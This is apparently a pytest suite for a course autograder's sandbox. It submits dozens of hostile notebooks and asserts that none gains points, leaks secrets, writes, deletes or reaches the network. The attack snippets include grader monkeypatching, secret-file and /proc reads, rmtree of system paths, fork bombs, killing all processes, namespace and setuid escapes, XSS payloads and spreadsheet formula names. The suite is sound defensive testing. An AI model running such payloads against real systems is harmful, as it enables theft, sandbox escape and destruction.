"""Submissions that attack the grader. Each must gain no point that it is not owed, learn nothing, reach nothing, leave
nothing behind, and change nobody else's grade.

They are graded as one class, between honest neighbours, beside files that hold secrets and a server that listens.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import psutil
import pytest
from small_exercise import COMPUTED, NAME, answered, make_home, save

from crmlab.course.grading.grade_class import grade_class
from crmlab.course.grading.sandbox import Limits, NoSandboxError, find_isolation
from crmlab.course.grading.seed_file import open_seed_file

try:
    find_isolation()
except NoSandboxError as error:
    pytest.skip(f"needs the sandbox: {error}", allow_module_level=True)

CANARY = "canary-4711-secret"
REST = COMPUTED - 2
LIMITS = Limits(cell_seconds=5, run_seconds=20, memory_mb=700, scratch_mb=64, file_mb=32, output_mb=8)


@dataclass(frozen=True)
class Attack:
    """What a hostile student hands in; `owed` are the points that the honest part of it is worth."""

    answers: dict[str, str] = field(default_factory=dict)
    before: tuple[str, ...] = ()
    after: tuple[str, ...] = ()
    owed: float = REST
    statuses: tuple[str, ...] = ("graded",)


def on_q1(code: str, **options) -> Attack:
    return Attack(answers={"q1": code}, **options)


FORGE = """
import os, json, gc, sys
nonces = set()
frame = sys._getframe()
while frame:
    for each in list(frame.f_locals.values()):
        if hasattr(each, "_nonce"):
            nonces.add(each._nonce)
    frame = frame.f_back
for nonce in nonces | {"", "0"}:
    for pipe in range(1, 10):
        for question in ("q1", "q2", "q3"):
            for text in ("true", '{"$":"dict","v":[]}', "1e999", "{}", '"full marks"'):
                try:
                    os.write(pipe, (json.dumps({"nonce": nonce, "kind": "answer", "question": question, "text": text,
                        "points": 100, "share": 1.0, "correct": True}) + "\\n").encode())
                except OSError:
                    break
"""

LOOK_AROUND = """
import os
seen = []
for root, folders, files in os.walk("/"):
    if root.startswith(("/usr", "/lib/", "/lib64", "/sys", "/dev")) or "site-packages" in root or "/python3" in root:
        folders[:] = []
        continue
    for name in files:
        path = os.path.join(root, name)
        try:
            with open(path, "rb") as file:
                seen.append(path + ": " + file.read(400).decode("latin-1"))
        except OSError:
            pass
loyal = seen
"""

ATTACKS: dict[str, Attack] = {
    # Answers that claim to be right.
    "equals everything": on_q1(
        """
            class Any:
                def __eq__(self, other): return True
                def __hash__(self): return 1
            loyal = Any()
            """
    ),
    "subclassed int": on_q1(
        """
            class N(int):
                def __eq__(self, other): return True
                __hash__ = int.__hash__
            loyal = N(3)
            """
    ),
    "subclassed float": on_q1(
        """
            class F(float):
                def __sub__(self, o): return 0.0
                __rsub__ = __sub__
            loyal = F(1)
            """
    ),
    "subclassed frame": on_q1(
        """
            import pandas as pd
            class D(pd.DataFrame):
                def __eq__(s, o): return True
            loyal = D({'a': [1]})
            """
    ),
    "subclassed set": Attack(
        answers={
            "q2": """
            class S(set):
                def __contains__(self, each): return True
            who = S({1})
            """
        },
        owed=3,
    ),
    "nan": on_q1("loyal = float('nan')"),
    "infinity": on_q1("loyal = float('inf')"),
    "minus infinity in a set": Attack(answers={"q2": "who = {float('-inf'), float('nan')}"}, owed=3),
    "true for a number": on_q1("loyal = True"),
    "a number as text": on_q1(
        "loyal = str(int((lab.company.orders.groupby('customer_id').size() >= lab.parameters.least).sum()))"
    ),
    "all values at once": on_q1("loyal = list(range(5000))"),
    "huge whole number": on_q1("loyal = 10 ** 200_000"),
    "huge answer": on_q1("loyal = list(range(3_000_000))", statuses=("graded", "partial")),
    "deep answer": on_q1("loyal = []\nfor _ in range(100_000):\n    loyal = [loyal]", statuses=("graded", "partial")),
    "answer that holds itself": on_q1("loyal = []\nloyal.append(loyal)"),
    "answer that raises when looked at": on_q1(
        """
            class Bomb:
                def __getattribute__(self, name): raise SystemExit(1)
            loyal = Bomb()
            """
    ),
    "pickle bomb": on_q1(
        """
            class P:
                def __reduce__(self): return (__import__('os').system, ('touch /tmp/owned',))
            loyal = P()
            """
    ),
    "practice answer by heart": on_q1("loyal = 1234"),
    "all customers": Attack(answers={"q2": "who = set(lab.company.customers.customer_id)"}, owed=3),
    # Patches.
    "shadowed builtins": Attack(
        before=(
            """
            import builtins
            builtins.abs = lambda x: 0
            builtins.round = lambda *a: 0
            builtins.isinstance = lambda *a: True
            """,
        ),
        answers={"q1": "loyal = 1", "q2": "who = {1}", "q3": "share = 1"},
        owed=0,
        statuses=("graded", "partial"),
    ),
    "patched comparison": Attack(
        before=(
            """
            import crmlab.course.comparison as c, crmlab.course.verdict as v, crmlab.course.marking as m
            c.Number.problem = lambda *a: None
            v.judge = lambda *a, **k: v.Verdict(True)
            m.Marker.mark = lambda *a, **k: m.Mark(1.0, v.Verdict(True))
            """,
        ),
        answers={"q1": "loyal = 1", "q2": "who = {1}", "q3": "share = 1"},
        owed=0,
    ),
    "patched lab": Attack(
        before=("lab.check = lambda *a: True\nlab.company = None",),
        answers={"q1": "loyal = 1", "q2": "who = {1}", "q3": "share = 1"},
        owed=0,
    ),
    "patched codec": Attack(
        before=(
            """
            import crmlab.course.codec as codec, crmlab.course.grading.inside.runner as runner
            runner.dumps = lambda value: '{"$":"eval","v":"__import__(1)"}'
            """,
        ),
        owed=0,
    ),
    "patched pandas": Attack(
        before=(
            """
            import pandas as pd, numpy as np
            pd.DataFrame.__eq__ = lambda *a: True
            np.isclose = lambda *a: True
            """,
        ),
        answers={"q1": "loyal = 1", "q2": "who = {1}", "q3": "share = 1"},
        owed=0,
    ),
    "patched json": Attack(
        before=("import json\njson.dumps = lambda *a, **k: 'null'",), owed=COMPUTED, statuses=("graded", "partial")
    ),
    "forged lines": on_q1(FORGE + "\nloyal = 1", statuses=("graded", "partial")),
    "forged done, then death": on_q1(
        FORGE.replace('"answer"', '"done"') + "\nos._exit(0)", owed=REST, statuses=("graded", "partial")
    ),
    # The share that follows from one's own wrong number is owed its point.
    "parameters overwritten": Attack(before=("lab.parameters.__dict__['_values']['least'] = 0",), owed=1),
    # Looking where nothing is to be seen.
    "reads files": on_q1(LOOK_AROUND, statuses=("graded", "partial")),
    "reads the call stack": on_q1(
        """
            import gc, sys
            frame, seen = sys._getframe(), []
            while frame:
                seen.append(repr(frame.f_locals)[:20000])
                frame = frame.f_back
            loyal = seen
            """
    ),
    "reads the environment": on_q1("import os, sys\nloyal = [dict(os.environ), sys.argv, sys.path]"),
    "reads other processes": on_q1(
        """
            import os
            loyal = os.listdir('/proc')
            for process in (1, 2, 3):
                if os.path.exists(f'/proc/{process}/environ'):
                    loyal.append(open(f'/proc/{process}/environ').read())
            """
    ),
    "reads memory": on_q1("loyal = open('/proc/self/mem', 'rb').read(10)"),
    "symlink to a secret": on_q1("import os\nos.symlink(SECRET, 'link')\nloyal = open('link').read()"),
    "looks for the truth": on_q1("from crmlab.company import truth\nloyal = list(truth())"),
    "looks for the seed": on_q1(
        """
            import json, pathlib
            places = [*pathlib.Path('/lab/datasets').glob('*.json'), *pathlib.Path.home().rglob('*.json')]
            loyal = [path.read_text() for path in places]
            """
    ),
    # Writing and reaching out.
    "writes outside": on_q1(
        """
            import os
            places = ('/lab/crmlab', '', '/usr/lib', '/tmp', '/dev', '/lab/datasets', '/var')
            for path in (SECRET, *(f'{place}/owned' for place in places)):
                try:
                    open(path, 'w').write('owned')
                except OSError:
                    pass
            loyal = 0
            """
    ),
    "deletes": on_q1(
        """
            import shutil
            for path in ('/lab/datasets', '/lab/crmlab/course', '/home', '/var'):
                shutil.rmtree(path, ignore_errors=True)
            loyal = 0
            """
    ),
    "network": on_q1(
        """
            import socket
            reached = []
            for host in ('127.0.0.1', '::1', 'localhost', '10.0.0.1', '8.8.8.8'):
                try:
                    socket.create_connection((host, PORT), 0.3).send(b'canary')
                    reached.append(host)
                except OSError:
                    pass
            loyal = reached or 0
            """
    ),
    "listens": on_q1("""
            import socket
            s = socket.socket()
            s.bind(('0.0.0.0', 0))
            s.listen()
            loyal = 0
            """),
    "abstract socket": on_q1(
        """
            import socket
            s = socket.socket(socket.AF_UNIX)
            s.connect('\\0crmlab-hostile')
            loyal = 0
            """
    ),
    "mounts and namespaces": on_q1(
        """
            import ctypes
            libc = ctypes.CDLL(None)
            tried = [libc.unshare(0x10000000), libc.mount(b'none', b'/scratch', b'tmpfs', 0, None)]
            tried += [libc.umount2(b'/proc', 2), libc.ptrace(16, 1, 0, 0), libc.setuid(0), libc.chroot(b'/')]
            loyal = {"got through": [each for each in tried if each != -1]}
            """
    ),
    # Not letting go.
    "exits": on_q1("import os\nos._exit(0)", statuses=("partial",)),
    "exits politely": on_q1("raise SystemExit(0)"),
    "quits": on_q1("exit()\nquit()"),
    "kills everybody": on_q1(
        """
            import os, signal
            os.kill(-1, signal.SIGKILL)
            os.kill(1, signal.SIGKILL)
            loyal = 0
            """,
        statuses=("graded", "partial"),
    ),
    "kills its parents": on_q1(
        """
            import os, signal
            for pid in range(1, 2000):
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            loyal = 0
            """
    ),
    "stops itself": on_q1("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", statuses=("timed_out",)),
    "crash": on_q1("import ctypes\nctypes.string_at(0)", statuses=("partial",)),
    "endless loop": on_q1("while True:\n    pass", statuses=("timed_out",)),
    "loop that swallows interrupts": on_q1(
        """
            import signal
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
            """,
        statuses=("timed_out",),
    ),
    "waits for input": on_q1("loyal = input('points? ')"),
    "sleeps": on_q1("import time\ntime.sleep(1000)", statuses=("timed_out",)),
    "thread that outlives the cell": Attack(
        before=(
            """
            import threading, time
            def write():
                while True:
                    globals()['loyal'] = 0
            threading.Thread(target=write, daemon=True).start()
            """,
        ),
        owed=COMPUTED,
        statuses=("graded", "partial", "timed_out"),
    ),
    "child that outlives the run": on_q1(
        """
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(600)
                    os._exit(0)
                os._exit(0)
            loyal = 0
            """
    ),
    "children that answer too": on_q1(
        "import os\nfor _ in range(5):\n    os.fork()\nloyal = 0", statuses=("graded", "partial")
    ),
    "fork bomb": on_q1(
        """
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
            """,
        statuses=("timed_out", "partial"),
    ),
    "memory flood": on_q1(
        "held = []\nwhile True:\n    held.append(bytearray(50_000_000))", statuses=("graded", "partial")
    ),
    "memory flood by children": on_q1(
        """
            import os, time
            for _ in range(20):
                if os.fork() == 0:
                    held = bytearray(b'1' * 120_000_000)
                    time.sleep(60)
            time.sleep(60)
            """,
        statuses=("partial", "timed_out"),
    ),
    "disk flood": on_q1(
        """
            import os
            number = 0
            try:
                while True:
                    with open(f'f{number}', 'wb') as file:
                        file.write(b'0' * 10_000_000)
                    number += 1
            except OSError:
                loyal = 0
            """
    ),
    "output flood": on_q1(
        "for _ in range(200_000):\n    print('x' * 1000)\nloyal = 0", statuses=("graded", "timed_out")
    ),
    "pipe flood": on_q1(
        """
            import os
            while True:
                for pipe in range(1, 10):
                    try:
                        os.write(pipe, b'x' * 65536)
                    except OSError:
                        pass
            """,
        statuses=("partial", "timed_out"),
    ),
    "closes everything": on_q1("import os\nos.closerange(0, 256)\nloyal = 0", statuses=("partial",), owed=REST),
    # What other people will read.
    "script in names and outputs": on_q1("# <script>alert(1)</script>\nloyal = '<img src=x onerror=alert(1)>'"),
    "an error that tells": on_q1(
        "raise type('Hidden_' + str(len(lab.company.orders)), (Exception,), {})(str(lab.parameters))"
    ),
}


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    """The instructor's machine: a home with secrets, and a port on which somebody listens."""
    root = tmp_path_factory.mktemp("instructor")
    (root / "secret.txt").write_text(CANARY, encoding="utf-8")
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    heard: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                heard.append(server.accept()[0].recv(100))
            except TimeoutError:
                continue
            except OSError:
                return

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    yield root, server.getsockname()[1], heard
    stop.set()
    server.close()


@pytest.fixture(scope="module")
def graded(guarded):
    """The whole class graded once, two at a time; gives the output folder and the gradebook by student."""
    root, port, _ = guarded
    home, out, submitted = make_home(root / "home"), root / "out", root / "submitted"
    fill = f"SECRET, PORT = {str(root / 'secret.txt')!r}, {port}"
    save(submitted, "000 honest", answered(home))
    for name, attack in ATTACKS.items():
        save(submitted, name, answered(home, attack.answers, before=(fill, *attack.before), after=attack.after))
    save(submitted, "zzz honest", answered(home))
    _save_odd_ones(home, submitted)
    before = snapshot(root, out)
    mine = {process.pid for process in psutil.process_iter()}
    began = time.monotonic()
    grade_class(home, NAME, submitted, out, seed_file=open_seed_file(root / "seed.json"), jobs=2, limits=LIMITS)
    seconds = time.monotonic() - began
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["student"]: row for row in csv.DictReader(file)}
    return out, rows, before, mine, seconds


def snapshot(root: Path, out: Path) -> dict[str, bytes]:
    """Every file that the instructor has, but for the results and the seed file (made by grading itself)."""
    return {
        str(path): path.read_bytes() if path.is_file() else b""
        for path in sorted(root.rglob("*"))
        if not path.is_relative_to(out) and not path.name.startswith("seed.json") and not path.is_symlink()
    }


def _save_odd_ones(home: Path, submitted: Path) -> None:
    """Attacks by metadata, outputs, files and names."""
    moved = answered(home, {"q1": "loyal = 1"})
    checks = [cell for cell in moved.cells if cell.source.startswith("lab.check")]
    for cell in checks:
        cell.source = "pass"
        cell.metadata["nbgrader"]["points"] = 1000
    moved.cells = [cell for cell in moved.cells if cell not in checks] + checks + checks[:1]
    (submitted / "checks edited and moved").mkdir()
    text = nbformat.writes(moved).replace('"points": 2', '"points": 2000')
    (submitted / "checks edited and moved" / f"{NAME}.ipynb").write_text(text, encoding="utf-8")

    honest = answered(home)
    honest.cells = [cell for cell in honest.cells if not cell.source.startswith("lab.check")]
    save(submitted, "honest without checks", honest)

    html = answered(home)
    for cell in html.cells:
        if cell.cell_type == "code":
            data = {
                "text/html": "<script>alert('html')</script>",
                "image/svg+xml": "<svg onload='alert(1)'/>",
                "application/javascript": "alert('js')",
                "text/plain": "</pre><script>alert('plain')</script><img src=http://evil.example/x>",
                "image/png": "\" onerror=\"alert('png')",
            }
            cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
    save(submitted, "html in outputs", html)
    save(submitted, "=HYPERLINK(1)", answered(home))
    save(submitted, "<script>alert(1)<", answered(home))
    save(submitted, "@SUM(1+1)", answered(home, {"q1": "loyal = 1"}))
    (submitted / "link").mkdir()
    (submitted / "link" / f"{NAME}.ipynb").symlink_to(submitted / "000 honest" / f"{NAME}.ipynb")
    for name, content in {
        "empty": b"",
        "not json": b"\x00\xff\xfe",
        "another json": b"[1, 2]",
        "deep json": b"[" * 200_000,
        "half a notebook": b'{"cells": [{"cell_type": "code", "source": ',
        "long number": b'{"cells": [' + b"9" * 1_000_000 + b"]}",
    }.items():
        (submitted / name).mkdir()
        (submitted / name / f"{NAME}.ipynb").write_bytes(content)
    (submitted / "200 MB").mkdir()
    with (submitted / "200 MB" / f"{NAME}.ipynb").open("wb") as file:
        file.truncate(200_000_000)


UNREADABLE = ("link", "empty", "not json", "another json", "deep json", "half a notebook", "long number", "200 MB")


@pytest.mark.parametrize("name", ATTACKS)
def test_gains_no_point_that_is_not_owed(graded, name):
    _, rows, _, _, _ = graded
    attack, row = ATTACKS[name], rows[name]
    assert float(row["points"]) <= attack.owed
    # On a busy machine a flood may meet the limit of time before its own.
    floods = ("timed_out",) if "flood" in name or name in ("deletes", "reads files") else ()
    assert row["status"] in (*attack.statuses, *floods)
    if attack.answers.get("q1"):
        assert float(row["q1"]) == 0


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_is_leaked_into_answers_or_feedback(graded, guarded, name):
    out, _, _, _, _ = graded
    root, _, _ = guarded
    secret = json.loads((root / "seed.json").read_text(encoding="utf-8"))["secret"]
    record = (out / "answers" / f"{feedback_name(out, name)}--1.json").read_text(encoding="utf-8")
    told = json.dumps(json.loads(record)["answers"])
    for word in (CANARY, secret, '\\"seed\\"', "key.question", "key.judgement", "000 honest", str(root / "out")):
        assert word not in told
    page = (out / "feedback" / f"{feedback_name(out, name)}.html").read_text(encoding="utf-8")
    assert CANARY not in page.replace(str(root), "")
    assert secret not in page
    if name == "an error that tells":
        assert "On that company your code raised an error." in page


def feedback_name(out: Path, student: str) -> str:
    rows = json.loads((out / "gradebook.json").read_text(encoding="utf-8"))
    return next(row["stem"] for row in rows if row["student"] == student).removesuffix("--1")


@pytest.mark.parametrize("name", ["000 honest", "zzz honest", "honest without checks", "html in outputs"])
def test_honest_neighbours_have_their_points(graded, name):
    _, rows, _, _, _ = graded
    assert float(rows[name]["points"]) == COMPUTED
    assert rows[name]["status"] == "graded"


def test_edited_and_moved_checks_change_nothing(graded):
    _, rows, _, _, _ = graded
    row = rows["checks edited and moved"]
    assert (float(row["points"]), row["max_points"], float(row["q1"])) == (REST, "7", 0)


@pytest.mark.parametrize("name", UNREADABLE)
def test_what_is_no_notebook_is_a_row_with_a_reason(graded, name):
    _, rows, _, _, _ = graded
    assert (rows[name]["status"], float(rows[name]["points"])) == ("unreadable", 0)
    assert rows[name]["note"]


def test_no_process_is_left(graded):
    _, _, _, before, _ = graded
    for _ in range(50):
        left = [
            process
            for process in psutil.process_iter(["cmdline", "uids"])
            if process.pid not in before
            and (
                "crmlab.course.grading.inside.warm" in " ".join(process.info["cmdline"] or ())
                or (os.geteuid() == 0 and process.info["uids"] and process.info["uids"].real >= 1_000_000_000)
            )
            and process.status() != psutil.STATUS_ZOMBIE
            and os.getpid() in {parent.pid for parent in process.parents()} | {os.getpid() * (process.ppid() == 1)}
        ]
        if not left:
            return
        time.sleep(0.1)
    raise AssertionError(f"left behind: {left}")


def test_nothing_is_written_or_deleted_outside(graded, guarded):
    out, _, before, _, _ = graded
    root, _, _ = guarded
    assert snapshot(root, out) == before
    assert not Path("/tmp/owned").exists()


def test_no_wall_can_be_taken_down_from_inside(graded):
    out, _, _, _, _ = graded
    record = json.loads((out / "answers" / "mounts and namespaces--1.json").read_text(encoding="utf-8"))
    assert json.loads(record["answers"]["q1"])["v"] == [["got through", []]]


def test_nobody_was_reached_over_the_network(graded, guarded):
    assert guarded[2] == []


def test_pages_have_no_script_and_load_nothing(graded):
    out, _, _, _, _ = graded
    pages = [*(out / "feedback").glob("*.html"), out / "report.html"]
    assert len(pages) > len(ATTACKS)
    for path in pages:
        text = path.read_text(encoding="utf-8").lower()
        assert "<script" not in text
        assert " onerror=" not in text.replace("&#34; onerror=", "").replace("&lt;img src=x onerror=", "")
        assert "src=http" not in text.replace("&lt;img src=http", "")
        assert "<svg onload" not in text


def test_no_cell_of_the_gradebook_is_a_formula(graded):
    out, rows, _, _, _ = graded
    for name in ("gradebook.csv", "gradebook_canvas.csv", "gradebook_moodle.csv", "timings.csv"):
        with (out / name).open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")) for cell in row)
    assert "'=HYPERLINK(1)" in rows
    assert sum("script" in name for name in rows) >= 1


def test_every_submission_has_a_row_and_no_file_lies_outside_the_results(graded):
    out, rows, _, _, seconds = graded
    assert len(rows) == len(ATTACKS) + len(UNREADABLE) + 8
    assert {path.name for path in out.iterdir()} == {
        *("answers", "feedback", "submitted", "gradebook.csv", "gradebook.json", "gradebook_canvas.csv"),
        *("gradebook_moodle.csv", "grading.json", "marks.json", "report.html", "timings.csv"),
    }
    assert not list(out.rglob("*.partial"))
    assert seconds < 240


def test_the_trusted_process_imported_nothing_of_a_student(graded):
    assert "owned" not in sys.modules
